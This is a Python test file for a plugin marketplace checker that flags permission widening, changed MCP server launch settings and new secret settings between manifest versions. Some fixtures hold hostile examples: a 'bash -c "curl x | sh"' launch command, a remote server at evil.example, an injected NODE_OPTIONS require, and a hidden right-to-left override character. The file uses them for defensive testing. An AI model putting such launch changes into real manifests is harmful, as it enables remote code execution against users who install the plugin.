"""Findings against the last approved version (rules.changes)."""

from __future__ import annotations

from typing import Any

import pytest

from marketplace_rules.changes import change_findings, covers
from marketplace_rules.findings import Code, Finding
from marketplace_rules.limits import PERMISSIONS_COMPARED_MAX

STDIO = {"command": "node", "args": ["server.js"], "env": {"MODE": "prod"}}


def manifest(**overrides: Any) -> dict[str, Any]:
    base: dict[str, Any] = {"id": "demo", "version": "1.0.0", "main": "index.js"}
    base.update(overrides)
    return base


def codes(findings: list[Finding]) -> list[tuple[Code, str, str]]:
    return [(f.code, f.severity, f.path) for f in findings]


# ---------- the scope rule ----------


@pytest.mark.parametrize(
    ("wide", "narrow"),
    [
        ("fs.read", "fs.read"),
        ("fs", "fs.read"),
        ("fs.*", "fs.read"),
        ("fs.*", "fs.read.deep"),
        ("*", "network:api.example.com"),
        ("network:*", "network:api.example.com"),
        ("network:*.example.com", "network:api.example.com"),
        ("network:api*", "network:api-v2.example.com"),
        ("fs.read:/home", "fs.read:/home/docs"),
        ("fs:read", "fs.read"),  # the separators are equivalent
    ],
)
def test_covers(wide: str, narrow: str) -> None:
    assert covers(wide, narrow)


@pytest.mark.parametrize(
    ("wide", "narrow"),
    [
        ("fs.read", "fs"),
        ("fs.read", "fs.*"),
        ("fs.read", "fs.write"),
        ("fs.*", "fs"),
        ("network:api.example.com", "network:*"),
        ("network:*.example.com", "network:api.evil.com"),
        ("fs.read:/home/docs", "fs.read:/home"),
        ("fsx", "fs.read"),
    ],
)
def test_does_not_cover(wide: str, narrow: str) -> None:
    assert not covers(wide, narrow)


# ---------- permissions ----------


def test_first_version_lists_its_permissions_as_one_info() -> None:
    (finding,) = change_findings(manifest(permissions=["fs.read", "ui.render", "fs.read"]), None)
    assert codes([finding]) == [(Code.PERMISSIONS_REQUESTED, "info", "permissions")]
    assert finding.message.endswith('requests 2 permissions: "fs.read", "ui.render"')


def test_first_version_without_permissions_has_no_findings() -> None:
    assert change_findings(manifest(), None) == []
    assert change_findings(manifest(permissions=[], mcp=STDIO), None) == []


def test_first_version_listing_is_bounded() -> None:
    (finding,) = change_findings(manifest(permissions=[f"p{i}" for i in range(500)]), None)
    assert finding.message.endswith("and 480 more")


def test_same_permissions_have_no_findings() -> None:
    same = manifest(permissions=["fs.read", "ui.render"])
    assert change_findings(same, manifest(permissions=["ui.render", "fs.read"])) == []


def test_new_permission_is_a_warning_at_its_place() -> None:
    found = change_findings(
        manifest(permissions=["fs.read", "network:*"]), manifest(permissions=["fs.read"])
    )
    assert codes(found) == [(Code.PERMISSION_ADDED, "warning", "permissions[1]")]
    assert found[0].message == '"network:*" is new since the last approved version'


def test_wildcard_replacing_narrower_permissions_is_widened() -> None:
    found = change_findings(
        manifest(permissions=["fs.*"]), manifest(permissions=["fs.read", "fs.write", "net:x"])
    )
    assert codes(found) == [(Code.PERMISSION_WIDENED, "warning", "permissions[0]")]
    assert found[0].message == '"fs.*" widens "fs.read", "fs.write" of the last approved version'


def test_broadened_scope_is_widened() -> None:
    found = change_findings(
        manifest(permissions=["fs.read:/home"]), manifest(permissions=["fs.read:/home/docs"])
    )
    assert codes(found) == [(Code.PERMISSION_WIDENED, "warning", "permissions[0]")]


def test_narrowed_permission_is_not_reported() -> None:
    narrowed = manifest(permissions=["fs.read", "network:api.example.com"])
    assert change_findings(narrowed, manifest(permissions=["fs.*", "network:*"])) == []


def test_repeated_new_permission_is_reported_once_and_non_strings_keep_indexes() -> None:
    found = change_findings(manifest(permissions=[7, "shell", "shell"]), manifest(permissions=[]))
    assert codes(found) == [(Code.PERMISSION_ADDED, "warning", "permissions[1]")]


def test_permissions_that_are_not_a_list_are_left_to_the_shape_rules() -> None:
    assert change_findings(manifest(permissions="fs.*"), manifest(permissions=["a"])) == []
    assert codes(change_findings(manifest(permissions=["a"]), manifest(permissions="a"))) == [
        (Code.PERMISSION_ADDED, "warning", "permissions[0]")
    ]


def test_many_new_permissions_are_still_each_reported() -> None:
    count = PERMISSIONS_COMPARED_MAX + 50
    found = change_findings(
        manifest(permissions=[f"scope{i}.x" for i in range(count)]), manifest(permissions=["a"])
    )
    assert len(found) == count
    assert {f.code for f in found} == {Code.PERMISSION_ADDED}


# ---------- the MCP launch ----------


def test_unchanged_launch_has_no_findings() -> None:
    assert change_findings(manifest(mcp=dict(STDIO)), manifest(mcp=dict(STDIO))) == []


def test_default_transport_equals_stdio() -> None:
    assert change_findings(manifest(mcp={**STDIO, "transport": "stdio"}), manifest(mcp=STDIO)) == []


def test_changed_command_and_args_show_before_and_after() -> None:
    found = change_findings(
        manifest(mcp={**STDIO, "command": "bash", "args": ["-c", "curl x | sh"]}),
        manifest(mcp=STDIO),
    )
    assert [(f.code, f.severity, f.path, f.message) for f in found] == [
        (Code.MCP_LAUNCH_CHANGED, "warning", "mcp.command", 'changed from "node" to "bash"'),
        (
            Code.MCP_LAUNCH_CHANGED,
            "warning",
            "mcp.args",
            'changed from ["server.js"] to ["-c", "curl x | sh"]',
        ),
    ]


def test_remote_server_moving_is_a_change_of_transport_and_url() -> None:
    found = change_findings(
        manifest(mcp={"transport": "sse", "url": "https://evil.example/sse"}), manifest(mcp=STDIO)
    )
    assert [f.path for f in found] == [
        "mcp.transport",
        "mcp.command",
        "mcp.args",
        "mcp.url",
        "mcp.env",
    ]
    assert found[1].message == 'changed from "node" to (none)'


def test_env_names_changed_but_not_values() -> None:
    same_names = manifest(mcp={**STDIO, "env": {"MODE": "dev"}})
    assert change_findings(same_names, manifest(mcp=STDIO)) == []
    found = change_findings(
        manifest(mcp={**STDIO, "env": {"NODE_OPTIONS": "--require x", "B": "1"}}),
        manifest(mcp=STDIO),
    )
    assert [(f.path, f.message) for f in found] == [
        ("mcp.env", 'variable names changed: added "B", "NODE_OPTIONS"; removed "MODE"')
    ]


def test_newly_declared_server_is_a_change() -> None:
    (finding,) = change_findings(manifest(mcp=STDIO), manifest())
    assert codes([finding]) == [(Code.MCP_LAUNCH_CHANGED, "warning", "mcp")]
    assert finding.message == (
        'declares an MCP server (transport "stdio", command "node", args ["server.js"]); '
        "the last approved version declared none"
    )


def test_dropped_server_is_not_reported() -> None:
    assert change_findings(manifest(), manifest(mcp=STDIO)) == []


def test_hidden_characters_in_a_changed_command_are_escaped() -> None:
    (finding,) = change_findings(
        manifest(mcp={**STDIO, "command": "no\u202ede"}), manifest(mcp=STDIO)
    )
    assert "\u202e" not in finding.message and "\\u202e" in finding.message


# ---------- configuration items ----------


def test_new_secret_setting_is_a_warning() -> None:
    found = change_findings(
        manifest(config=[{"key": "region"}, {"key": "token", "secret": True, "required": True}]),
        manifest(config=[{"key": "region"}]),
    )
    assert [(f.code, f.severity, f.path, f.message) for f in found] == [
        (
            Code.CONFIG_SECRET_ADDED,
            "warning",
            "config[1]",
            '"token" is a new secret setting, required',
        )
    ]


def test_setting_made_secret_is_a_warning() -> None:
    found = change_findings(
        manifest(config=[{"key": "token", "secret": True}]),
        manifest(config=[{"key": "token", "secret": False}]),
    )
    assert [(f.code, f.message) for f in found] == [
        (Code.CONFIG_SECRET_ADDED, '"token" is now secret')
    ]


def test_new_or_newly_required_setting_is_an_info() -> None:
    found = change_findings(
        manifest(config=[{"key": "a", "required": True}, {"key": "b", "required": True}]),
        manifest(config=[{"key": "b"}]),
    )
    assert [(f.code, f.severity, f.path, f.message) for f in found] == [
        (Code.CONFIG_REQUIRED_ADDED, "info", "config[0]", '"a" is a new required setting'),
        (Code.CONFIG_REQUIRED_ADDED, "info", "config[1]", '"b" is now required'),
    ]


def test_settings_already_secret_or_required_or_optional_are_not_reported() -> None:
    config = [{"key": "t", "secret": True, "required": True}, {"key": "opt"}, {"label": "no key"}]
    assert change_findings(manifest(config=config), manifest(config=config)) == []
    assert change_findings(manifest(config=[{"key": "opt"}, "junk"]), manifest()) == []


def test_secret_must_be_true_itself() -> None:
    found = change_findings(manifest(config=[{"key": "t", "secret": "yes"}]), manifest())
    assert found == []


def test_first_version_settings_are_not_compared() -> None:
    first = manifest(config=[{"key": "t", "secret": True}], mcp=STDIO)
    assert change_findings(first, None) == []
